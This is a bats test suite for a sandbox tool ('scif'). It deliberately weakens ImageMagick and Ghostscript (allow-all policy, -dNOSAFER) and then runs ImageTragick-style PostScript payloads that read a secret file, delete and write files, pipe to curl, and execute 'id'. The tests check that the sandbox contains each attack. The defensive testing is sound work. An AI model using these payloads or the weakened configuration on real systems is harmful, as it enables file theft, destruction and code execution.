#!/usr/bin/env bats
# The ImageTragick proof, on the route that is live on Debian 12 (see
# ../shared/FINDINGS.md: the 2016 MVG files are inert on ImageMagick
# 6.9.11).  ImageMagick is made deliberately vulnerable for the test: an
# allow-all policy.xml and a delegates.xml whose Ghostscript commands say
# -dNOSAFER, found through MAGICK_CONFIGURE_PATH (kept in the sandbox with
# --override, which loosens only ImageMagick's own layer).  PostScript
# payloads of our own, read through epsi:, each try one thing.  Without
# scif every attack succeeds; under -p imagemagick-ghostscript (and gs
# -dNOSAFER itself under -p ghostscript) each is contained.

load helpers

P=$TOP/profiles

setup() {
	j=$(job_dir)     # the job directory
	o=$(job_dir)     # outside: the caller's files
	v=$(job_dir)     # the vulnerable ImageMagick configuration
	token="TOPSECRET-$$-$RANDOM"
	echo "$token" >"$o/secret"
	chmod 0644 "$o/secret"
	printf '<policymap>\n</policymap>\n' >"$v/policy.xml"
	sed 's/-dSAFER/-dNOSAFER/g' /etc/ImageMagick-6/delegates.xml >"$v/delegates.xml"
	chmod 0644 "$v"/*
	grep -q NOSAFER "$v/delegates.xml"
	"$PROBE" listen >"$BATS_TEST_TMPDIR/listener" &
	lpid=$!
	for _ in $(seq 50); do [ -s "$BATS_TEST_TMPDIR/listener" ] && break; sleep 0.1; done
	port=$(head -n 1 "$BATS_TEST_TMPDIR/listener")
	payload read "($o/secret) (r) file 64 string readstring pop (%stderr) (w) file exch writestring"
	payload delete "($o/victim) deletefile"
	payload http "(%pipe%curl -s -m 2 http://127.0.0.1:$port/ >/dev/null) (w) file closefile"
	payload rce "(%pipe%id >$o/rce) (w) file closefile"
	payload write "($o/pwned) (w) file dup (owned) writestring closefile"
	table="$BATS_TEST_TMPDIR/table"
}

teardown() {
	kill "$lpid" 2>/dev/null || true
	rm -rf "$j" "$o" "$v"
}

payload() { # NAME POSTSCRIPT
	printf '%%!PS-Adobe-3.0 EPSF-3.0\n%%%%BoundingBox: 0 0 20 20\n%s\nnewpath 0 0 moveto 20 20 lineto stroke showpage\n' \
		"$2" >"$j/$1.eps"
	chmod 0644 "$j/$1.eps"
}

accepted() { grep -c accepted "$BATS_TEST_TMPDIR/listener" || true; }

# Fresh state for one attack; then did it get through?
arm() { rm -f "$o/rce" "$o/pwned"; echo victim >"$o/victim"; chmod 0666 "$o/victim"; n0=$(accepted); }
hit() { # ATTACK (the output of the run is in $output)
	case $1 in
	read) [[ "$output" == *"$token"* ]] ;;
	delete) [ ! -e "$o/victim" ] ;;
	http) [ "$(accepted)" -gt "$n0" ] ;;
	rce) [ -e "$o/rce" ] ;;
	write) [ -e "$o/pwned" ] ;;
	esac
}

# prove LABEL BARE-CMD -- CONFINED-CMD, each with @ for the attack name.
prove() {
	label=$1; shift
	bare=() conf=() side=bare
	for a in "$@"; do
		if [ "$a" = "--" ] && [ $side = bare ]; then side=conf; continue; fi
		if [ $side = bare ]; then bare+=("$a"); else conf+=("$a"); fi
	done
	printf '%-34s %-12s %s\n' "attack ($label)" unsandboxed sandboxed >>"$table"
	for a in read delete http rce write; do
		arm
		run "${bare[@]//@/$a}"
		if hit "$a"; then u=UNSAFE; else u=safe?; fi
		arm
		run "${conf[@]//@/$a}"
		cstatus=$status
		# It must have run: not a refusal by scif (120-127).
		{ [ "$cstatus" -lt 120 ] || [ "$cstatus" -gt 127 ]; } || { echo "not run: $output"; return 1; }
		if hit "$a"; then s=UNSAFE; else s=SAFE; fi
		printf '%-34s %-12s %s (status %s)\n' "$a" "$u" "$s" "$cstatus" >>"$table"
	done
	sed 's/^/# /' "$table" >&3
	! grep -q 'safe?' "$table" || { echo "an attack failed unsandboxed"; cat "$table"; return 1; }
	[ "$(grep -c 'UNSAFE  *SAFE' "$table")" -eq 5 ] || { cat "$table"; return 1; }
}

@test "ImageTragick, live route: every attack works bare and is contained by -p imagemagick-ghostscript" {
	prove "convert epsi:" env MAGICK_CONFIGURE_PATH="$v" /usr/bin/convert "epsi:$j/@.eps" "$j/@.png" -- \
		"$SCIF" run -p "$P/imagemagick-ghostscript.cfg" --override \
		--env MAGICK_CONFIGURE_PATH="$v" --ro-noexec "$v" --rw "$j" -- \
		convert "epsi:$j/@.eps" "$j/@.png"
}

@test "gs -dNOSAFER on the same payloads: works bare, contained by -p ghostscript" {
	prove "gs -dNOSAFER" gs -q -dNOSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m "-sOutputFile=$j/g@.png" "$j/@.eps" -- \
		"$SCIF" run -p "$P/ghostscript.cfg" --rw "$j" -- \
		gs -q -dNOSAFER -dBATCH -dNOPAUSE -sDEVICE=png16m "-sOutputFile=$j/g@.png" "$j/@.eps"
}

@test "the MSL crash of 6.9.11: the program dies, scif reports the signal" {
	printf '<?xml version="1.0"?>\n<image>\n<read filename="%s/none.png" />\n<write filename="%s/out.png" />\n</image>\n' "$j" "$j" >"$j/x.msl"
	chmod 0644 "$j/x.msl"
	run env MAGICK_CONFIGURE_PATH="$v" /usr/bin/convert "msl:$j/x.msl" "$j/o.png"
	[ "$status" -eq 134 ] || [ "$status" -eq 139 ]
	run "$SCIF" run -p "$P/imagemagick.cfg" --override --env MAGICK_CONFIGURE_PATH="$v" \
		--ro-noexec "$v" --rw "$j" --report json -- convert "msl:$j/x.msl" "$j/o.png"
	[ "$status" -eq 134 ] || [ "$status" -eq 139 ]
	echo "${lines[-1]}" | jq -e '.reason == "signal" and (.signal_name == "SIGABRT" or .signal_name == "SIGSEGV")'
	# Under the profile as shipped, MSL is refused by its policy.xml.
	run "$SCIF" run -p "$P/imagemagick.cfg" --rw "$j" -- convert "msl:$j/x.msl" "$j/o.png"
	[ "$status" -eq 1 ]
	[[ "$output" == *"not allowed by the security policy"* ]]
}
